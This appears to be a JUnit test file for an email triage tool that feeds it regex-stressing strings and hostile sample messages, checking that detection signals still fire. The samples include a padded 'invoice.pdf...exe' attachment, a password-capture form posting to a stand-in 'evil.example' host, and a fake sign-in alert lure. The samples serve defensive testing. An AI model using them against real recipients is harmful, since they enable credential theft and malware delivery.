package org.tocsin.email;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.tocsin.email.read.MailItem;
import org.tocsin.email.read.MailReader;
import org.tocsin.email.triage.EmailTriage;
import org.tocsin.email.triage.TriageResult;
import org.tocsin.profile.Profile;
import org.tocsin.reference.ReferenceData;
import org.tocsin.signal.Scorer;

/**
 * Attacker-shaped text sent through every rule: shapes that once made a pattern backtrack for minutes
 * or overflow the stack. Each must give a result. The timeout is a safety net against a hang in CI,
 * not a performance assertion.
 */
@Timeout(value = 5, unit = TimeUnit.MINUTES)
class HostileTriageTest {
    private final EmailTriage triage = new EmailTriage(new EmailContext(Profile.empty(), ReferenceData.bundled()),
            new Scorer(EmailTriage.DEFAULT_THRESHOLDS));

    private List<TriageResult> triage(String mail) {
        List<MailItem> items = new ArrayList<>();
        new MailReader().read(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)), "hostile", items::add);
        assertThat(items).hasSize(1);
        assertThat(items.get(0).error()).isNull();
        return triage.triage(items.get(0).message());
    }

    private static String mail(String from, String subject, String body) {
        return "From: " + from + "\r\nTo: a@example.org\r\nSubject: " + subject + "\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n";
    }

    @Test
    void aLongLowerCaseSubject() {
        assertThat(triage(mail("x@example.com", "a".repeat(64 * 1024), "hello"))).hasSize(1);
    }

    @Test
    void aTableOfNumbers() {
        assertThat(triage(mail("x@example.com", "numbers", "1 ".repeat(16 * 1024)))).hasSize(1);
        assertThat(triage(mail("x@example.com", "numbers", "1-".repeat(16 * 1024)))).hasSize(1);
    }

    @Test
    void hugeDisplayNames() {
        assertThat(triage(mail("\"" + "a".repeat(40_000) + "\" <x@example.com>", "hi", "hello"))).hasSize(1);
        assertThat(triage(mail("\"" + "a.".repeat(100_000) + "\" <x@example.com>", "hi", "hello"))).hasSize(1);
    }

    @Test
    void aUrlFollowedByEndlessPunctuation() {
        assertThat(triage(mail("x@example.com", "link", "see http://x" + ".".repeat(80_000)))).hasSize(1);
    }

    @Test
    void aPaddedDoubleExtensionIsStillCaught() {
        String name = "invoice.pdf" + "_".repeat(6000) + ".exe";
        String mail = "From: x@example.com\r\nTo: a@example.org\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                + "--b\r\nContent-Type: application/octet-stream; name=\"" + name + "\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b--\r\n";
        List<TriageResult> r = triage(mail);
        assertThat(r.get(0).assessment().signals()).extracting(s -> s.id())
                .contains("EMAIL_ATTACHMENT_EXECUTABLE");
    }

    @Test
    void aForwardSubjectDoesNotHideThePhish() {
        String mail = "From: Support <help@secure-login.example>\r\nTo: a@example.org\r\nSubject: Fwd: verify\r\n"
                + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                + "Content-Type: text/html\r\n\r\n<form action=\"https://evil.example/p\"><input type=password></form>\r\n"
                + "--b\r\nContent-Type: message/rfc822\r\n\r\nFrom: b@example.com\r\nSubject: old\r\n\r\nharmless\r\n--b--\r\n";
        List<TriageResult> r = triage(mail);
        assertThat(r).hasSize(1);
        assertThat(r.get(0).evidence().source()).isEqualTo("hostile");
        assertThat(r.get(0).assessment().signals()).extracting(s -> s.id()).contains("EMAIL_CREDENTIAL_FORM");
    }

    @Test
    void aHarmlessPlainPartDoesNotHideTheHtmlLure() {
        String mail = "From: x@example.com\r\nTo: a@example.org\r\nSubject: hello\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
                + "Lorem ipsum dolor sit amet. ".repeat(20) + "\r\n--b\r\nContent-Type: text/html\r\n\r\n"
                + "<p>Unusual sign-in activity: verify your account within 24 hours</p>\r\n--b--\r\n";
        assertThat(triage(mail).get(0).assessment().signals()).extracting(s -> s.id())
                .contains("EMAIL_SECURITY_ALERT_LURE");
    }
}
